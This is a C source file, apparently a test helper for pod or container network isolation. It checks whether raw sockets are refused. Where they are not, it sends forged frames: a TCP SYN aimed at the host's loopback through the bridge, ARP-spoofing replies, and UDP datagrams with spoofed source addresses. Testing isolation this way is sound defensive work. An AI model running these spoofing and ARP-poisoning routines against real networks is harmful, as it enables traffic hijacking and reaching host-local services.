/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attacks a pod's link with raw frames.
 *
 *   rawnet open
 *       opens an AF_PACKET and an AF_INET SOCK_RAW socket; prints
 *       "packet=OK|EPERM|<errno>" and "inet-raw=..."; exit 0 when both are
 *       refused with EPERM, 1 otherwise.
 *   rawnet syn IFACE GATEWAY-MAC PORT
 *       sends a TCP SYN from IFACE's address to 127.0.0.1:PORT in a frame
 *       addressed to GATEWAY-MAC (the host's bridge), as if the host's
 *       loopback were one hop away, and listens 3 s for the answer: prints
 *       "answer=SYN-ACK" or "answer=RST" (exit 2) or "answer=none" (exit 0).
 *   rawnet arp IFACE CLAIMED-IP TARGET-IP TARGET-MAC
 *       tells TARGET (an ARP reply, sent 6 times over 3 s to outlast the
 *       kernel's neighbour locktime) that CLAIMED-IP is at IFACE's MAC;
 *       prints "arp=sent" (exit 0).
 *   rawnet udp IFACE DST-MAC SRC-IP DST-IP PORT TEXT
 *       sends TEXT three times as a UDP datagram from SRC-IP (any address:
 *       another pod's, 127.0.0.1) to DST-IP:PORT in a frame addressed to
 *       DST-MAC; prints "udp=sent" (exit 0).
 *   rawnet ping ADDR
 *       what an unprivileged ping does (iputils'; Debian's busybox ping only
 *       tries a raw socket): an ICMP echo through an ICMP datagram socket
 *       (SOCK_DGRAM, IPPROTO_ICMP; allowed to the groups in
 *       net.ipv4.ping_group_range); prints "icmp-socket=OK|<errno>" and
 *       "echo-reply=yes|no"; exit 0 with a reply, 1 otherwise.
 *
 * Any socket refused with EPERM prints "socket=EPERM" and exits 3; other
 * failures print "error=..." and exit 1. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int die(const char *what) {
        printf("error=%s: %s\n", what, strerror(errno));
        return 1;
}

static int packet_socket(int proto) {
        int fd = socket(AF_PACKET, SOCK_RAW, htons(proto));

        if (fd < 0 && errno == EPERM) {
                printf("socket=EPERM\n");
                fflush(stdout);
                exit(3);
        }
        return fd;
}

static int parse_mac(const char *s, uint8_t mac[6]) {
        unsigned m[6];

        if (sscanf(s, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
                return -1;
        for (int i = 0; i < 6; i++)
                mac[i] = (uint8_t) m[i];
        return 0;
}

/* IFACE's index, MAC and IPv4 address. */
static int iface_info(const char *name, int *ret_index, uint8_t mac[6], struct in_addr *ret_addr) {
        struct ifreq ifr = {};
        int fd = socket(AF_INET, SOCK_DGRAM, 0);

        if (fd < 0 || strlen(name) >= sizeof(ifr.ifr_name))
                return -1;
        strcpy(ifr.ifr_name, name);
        if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0)
                return -1;
        *ret_index = ifr.ifr_ifindex;
        if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
                return -1;
        memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
        if (ioctl(fd, SIOCGIFADDR, &ifr) < 0)
                return -1;
        *ret_addr = ((struct sockaddr_in *) &ifr.ifr_addr)->sin_addr;
        close(fd);
        return 0;
}

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
        const uint8_t *p = data;

        for (; len > 1; p += 2, len -= 2)
                sum += (uint32_t) (p[0] << 8 | p[1]);
        if (len)
                sum += (uint32_t) (p[0] << 8);
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t) ~sum);
}

static int cmd_open(void) {
        int p = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), perr = errno;
        int r = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), rerr = errno;

        printf("packet=%s\n", p >= 0 ? "OK" : perr == EPERM ? "EPERM" : strerror(perr));
        printf("inet-raw=%s\n", r >= 0 ? "OK" : rerr == EPERM ? "EPERM" : strerror(rerr));
        return p < 0 && perr == EPERM && r < 0 && rerr == EPERM ? 0 : 1;
}

static double now(void) {
        struct timespec ts;

        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static int cmd_syn(const char *ifname, const char *gw, const char *port_s) {
        uint8_t frame[ETH_HLEN + 20 + 20] = {}, gwmac[6], mymac[6];
        struct ethhdr *eth = (struct ethhdr *) frame;
        struct iphdr *ip = (struct iphdr *) (frame + ETH_HLEN);
        struct tcphdr *tcp = (struct tcphdr *) (frame + ETH_HLEN + 20);
        struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
        uint16_t dport = (uint16_t) atoi(port_s), sport = (uint16_t) (40000 + getpid() % 20000);
        struct in_addr me;
        struct {
                uint32_t src, dst;
                uint8_t zero, proto;
                uint16_t len;
        } __attribute__((packed)) pseudo;
        uint32_t sum = 0;
        int fd, ifindex;
        double end;

        if (parse_mac(gw, gwmac) < 0 || dport == 0) {
                printf("error=usage\n");
                return 1;
        }
        fd = packet_socket(ETH_P_IP);
        if (fd < 0)
                return die("socket");
        if (iface_info(ifname, &ifindex, mymac, &me) < 0)
                return die(ifname);
        sll.sll_ifindex = ifindex;
        if (bind(fd, (struct sockaddr *) &sll, sizeof(sll)) < 0)
                return die("bind");

        memcpy(eth->h_dest, gwmac, 6);
        memcpy(eth->h_source, mymac, 6);
        eth->h_proto = htons(ETH_P_IP);
        ip->version = 4;
        ip->ihl = 5;
        ip->tot_len = htons(40);
        ip->id = htons((uint16_t) getpid());
        ip->frag_off = htons(IP_DF);
        ip->ttl = 64;
        ip->protocol = IPPROTO_TCP;
        ip->saddr = me.s_addr;
        ip->daddr = htonl(INADDR_LOOPBACK);
        ip->check = csum(ip, 20, 0);
        tcp->source = htons(sport);
        tcp->dest = htons(dport);
        tcp->seq = htonl(0x12345678);
        tcp->doff = 5;
        tcp->syn = 1;
        tcp->window = htons(64240);
        pseudo = (typeof(pseudo)) { ip->saddr, ip->daddr, 0, IPPROTO_TCP, htons(20) };
        {
                const uint8_t *p = (const uint8_t *) &pseudo;
                for (size_t i = 0; i < sizeof(pseudo); i += 2)
                        sum += (uint32_t) (p[i] << 8 | p[i + 1]);
        }
        tcp->check = csum(tcp, 20, sum);

        memcpy(sll.sll_addr, gwmac, 6);
        end = now() + 3;
        for (int sent = 0; now() < end;) {
                uint8_t buf[2048];
                struct pollfd pfd = { .fd = fd, .events = POLLIN };
                struct sockaddr_ll from;
                socklen_t fl = sizeof(from);
                ssize_t n;

                if (sent < 3 && now() > end - 3 + sent * 0.5) {
                        if (sendto(fd, frame, sizeof(frame), 0, (struct sockaddr *) &sll, sizeof(sll)) < 0)
                                return die("sendto");
                        sent++;
                }
                if (poll(&pfd, 1, 100) <= 0)
                        continue;
                n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *) &from, &fl);
                if (n < ETH_HLEN + 40 || from.sll_pkttype == PACKET_OUTGOING)
                        continue;
                const struct iphdr *rip = (const struct iphdr *) (buf + ETH_HLEN);
                if (rip->protocol != IPPROTO_TCP || rip->saddr != htonl(INADDR_LOOPBACK) || rip->ihl < 5 ||
                    (size_t) n < ETH_HLEN + rip->ihl * 4u + 20)
                        continue;
                const struct tcphdr *rt = (const struct tcphdr *) (buf + ETH_HLEN + rip->ihl * 4);
                if (rt->source != htons(dport) || rt->dest != htons(sport))
                        continue;
                printf("answer=%s\n", rt->rst ? "RST" : rt->syn && rt->ack ? "SYN-ACK" : "other");
                return 2;
        }
        printf("answer=none\n");
        return 0;
}

static int cmd_udp(const char *ifname, const char *dst_mac, const char *src_s, const char *dst_s, const char *port_s,
                   const char *text) {
        uint8_t frame[ETH_HLEN + 20 + 8 + 256] = {}, dmac[6], mymac[6];
        struct ethhdr *eth = (struct ethhdr *) frame;
        struct iphdr *ip = (struct iphdr *) (frame + ETH_HLEN);
        uint8_t *udp = frame + ETH_HLEN + 20;
        struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
        struct in_addr me, src, dst;
        size_t len = strlen(text);
        uint16_t port = (uint16_t) atoi(port_s);
        int fd, ifindex;

        if (parse_mac(dst_mac, dmac) < 0 || inet_pton(AF_INET, src_s, &src) != 1 || inet_pton(AF_INET, dst_s, &dst) != 1 ||
            port == 0 || len > 256) {
                printf("error=usage\n");
                return 1;
        }
        fd = packet_socket(ETH_P_IP);
        if (fd < 0)
                return die("socket");
        if (iface_info(ifname, &ifindex, mymac, &me) < 0)
                return die(ifname);
        sll.sll_ifindex = ifindex;
        memcpy(sll.sll_addr, dmac, 6);
        memcpy(eth->h_dest, dmac, 6);
        memcpy(eth->h_source, mymac, 6);
        eth->h_proto = htons(ETH_P_IP);
        ip->version = 4;
        ip->ihl = 5;
        ip->tot_len = htons((uint16_t) (20 + 8 + len));
        ip->ttl = 64;
        ip->protocol = IPPROTO_UDP;
        ip->saddr = src.s_addr;
        ip->daddr = dst.s_addr;
        ip->check = csum(ip, 20, 0);
        /* Source port, destination port, length; checksum 0 = none (IPv4). */
        udp[0] = 0x9c, udp[1] = 0x40;
        udp[2] = (uint8_t) (port >> 8), udp[3] = (uint8_t) port;
        udp[4] = (uint8_t) ((8 + len) >> 8), udp[5] = (uint8_t) (8 + len);
        memcpy(udp + 8, text, len);
        for (int i = 0; i < 3; i++) {
                if (sendto(fd, frame, ETH_HLEN + 20 + 8 + len, 0, (struct sockaddr *) &sll, sizeof(sll)) < 0)
                        return die("sendto");
                usleep(100 * 1000);
        }
        printf("udp=sent\n");
        return 0;
}

static int cmd_arp(const char *ifname, const char *claimed_s, const char *target_s, const char *target_mac_s) {
        struct {
                struct ethhdr eth;
                struct ether_arp arp;
        } __attribute__((packed)) f = {};
        struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP), .sll_halen = 6 };
        uint8_t mymac[6], tmac[6];
        struct in_addr me, claimed, target;
        int fd, ifindex;

        if (inet_pton(AF_INET, claimed_s, &claimed) != 1 || inet_pton(AF_INET, target_s, &target) != 1 ||
            parse_mac(target_mac_s, tmac) < 0) {
                printf("error=usage\n");
                return 1;
        }
        fd = packet_socket(ETH_P_ARP);
        if (fd < 0)
                return die("socket");
        if (iface_info(ifname, &ifindex, mymac, &me) < 0)
                return die(ifname);
        sll.sll_ifindex = ifindex;
        memcpy(sll.sll_addr, tmac, 6);

        memcpy(f.eth.h_dest, tmac, 6);
        memcpy(f.eth.h_source, mymac, 6);
        f.eth.h_proto = htons(ETH_P_ARP);
        f.arp.arp_hrd = htons(ARPHRD_ETHER);
        f.arp.arp_pro = htons(ETH_P_IP);
        f.arp.arp_hln = 6;
        f.arp.arp_pln = 4;
        f.arp.arp_op = htons(ARPOP_REPLY);
        memcpy(f.arp.arp_sha, mymac, 6);
        memcpy(f.arp.arp_spa, &claimed, 4);
        memcpy(f.arp.arp_tha, tmac, 6);
        memcpy(f.arp.arp_tpa, &target, 4);
        for (int i = 0; i < 6; i++) {
                if (sendto(fd, &f, sizeof(f), 0, (struct sockaddr *) &sll, sizeof(sll)) < 0)
                        return die("sendto");
                usleep(500 * 1000);
        }
        printf("arp=sent\n");
        return 0;
}

static int cmd_ping(const char *addr_s) {
        struct sockaddr_in to = { .sin_family = AF_INET };
        uint8_t req[16] = { 8 /* echo request */ }, buf[256];
        int fd;

        if (inet_pton(AF_INET, addr_s, &to.sin_addr) != 1) {
                printf("error=usage\n");
                return 1;
        }
        fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
        printf("icmp-socket=%s\n", fd >= 0 ? "OK" : strerror(errno));
        if (fd < 0)
                return 1;
        /* The kernel sets the identifier and the checksum. */
        if (sendto(fd, req, sizeof(req), 0, (struct sockaddr *) &to, sizeof(to)) < 0)
                return die("sendto");
        for (double end = now() + 5; now() < end;) {
                struct pollfd pfd = { .fd = fd, .events = POLLIN };

                if (poll(&pfd, 1, 100) <= 0)
                        continue;
                if (recv(fd, buf, sizeof(buf), 0) >= 8 && buf[0] == 0 /* echo reply */) {
                        printf("echo-reply=yes\n");
                        return 0;
                }
        }
        printf("echo-reply=no\n");
        return 1;
}

int main(int argc, char *argv[]) {
        int r = 1;

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 2 && strcmp(argv[1], "open") == 0)
                r = cmd_open();
        else if (argc == 5 && strcmp(argv[1], "syn") == 0)
                r = cmd_syn(argv[2], argv[3], argv[4]);
        else if (argc == 8 && strcmp(argv[1], "udp") == 0)
                r = cmd_udp(argv[2], argv[3], argv[4], argv[5], argv[6], argv[7]);
        else if (argc == 3 && strcmp(argv[1], "ping") == 0)
                r = cmd_ping(argv[2]);
        else if (argc == 6 && strcmp(argv[1], "arp") == 0)
                r = cmd_arp(argv[2], argv[3], argv[4], argv[5]);
        else
                fprintf(stderr, "usage: rawnet open | syn IFACE GATEWAY-MAC PORT | arp IFACE CLAIMED-IP TARGET-IP TARGET-MAC | udp IFACE DST-MAC SRC-IP DST-IP PORT TEXT | ping ADDR\n");
        return r;
}
